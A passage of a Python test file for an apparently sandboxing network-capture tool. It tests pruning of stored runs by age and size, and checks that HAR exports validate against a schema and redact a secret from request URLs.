    def remaining() -> list[str]:
        return sorted(p.name for p in root.iterdir() if p.name != "latest")

    by_age = nj.settings(retention={"maxAgeDays": 30})
    dry = cli(nj, "runs", "--prune", "--dry-run", "-s", str(by_age), "--json", env=env).json()
    assert [r["run_id"] for r in dry["removed"]] == [ids[40]] and remaining() == sorted(ids.values())
    done = cli(nj, "runs", "--prune", "-s", str(by_age), env=env).stdout
    assert "removed 1 of 4 runs" in done and ids[40] in done and "maxAgeDays 30" in done
    assert remaining() == sorted(ids[a] for a in (20, 5, 0))

    by_size = nj.settings(retention={"maxAgeDays": 30, "maxTotalMB": 1})  # three runs of ~0.6 MB: keep one
    result = cli(nj, "runs", "--prune", "-s", str(by_size), "--json", env=env).json()
    assert [r["run_id"] for r in result["removed"]] == [ids[20], ids[5]]
    assert remaining() == [ids[0]] and (root / "latest").resolve().name == ids[0]
    assert (
        cli(nj, "runs", "--prune", "-s", str(by_size), "--json", env=env).json()["removed"] == []
    )  # idempotent

    unset = nj.settings()
    missing = cli(nj, "runs", "--prune", "-s", str(unset), env=env, expect=1)
    assert "no retention is set" in missing.stderr and remaining() == [ids[0]]
    listed = cli(nj, "runs", "--json", env=env).lines()
    assert [r["run_id"] for r in listed] == [ids[0]] and listed[0]["counts"] == clean.records[-1]["counts"]


HAR_SCHEMA = Path(__file__).parents[1] / "data" / "har-schema"


def _har_validator():
    """npm har-schema 2.0.0 (an independent HAR 1.2 schema), with `format: uri` checked."""
    jsonschema = pytest.importorskip("jsonschema")
    from referencing import Registry, Resource

    resources = []
    for path in HAR_SCHEMA.glob("*.json"):
        schema = json.loads(path.read_text())
        resources.append((schema["$id"].rstrip("#"), Resource.from_contents(schema)))
    registry = Registry().with_resources(resources)
    root = json.loads((HAR_SCHEMA / "har.json").read_text())
    return jsonschema.Draft6Validator(
        root, registry=registry, format_checker=jsonschema.Draft6Validator.FORMAT_CHECKER
    )


@nonroot
def test_har_exports_with_redactions_are_valid_har_1_2(nj: Netjail, exfil: Exfil, mixed: Result) -> None:
    """Secrets replaced in URLs stay URIs (percent-encoded placeholders); every entry passes the schema."""
    validator = _har_validator()
    for run in (exfil.result, mixed):
        har_path = nj.tmp_path / f"{run.run_dir.name}.har"
        cli(nj, "export", run.run_dir.name, "--har", str(har_path))
        har = json.loads(har_path.read_text())
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(har)]
        assert errors == [], errors[:5]
    urls = [
        e["request"]["url"]
        for e in json.loads((nj.tmp_path / f"{exfil.result.run_dir.name}.har").read_text())["log"]["entries"]
    ]
    assert any("%5Bredacted%20secret" in u for u in urls), urls
    assert not any(exfil.env_secret in u for u in urls)
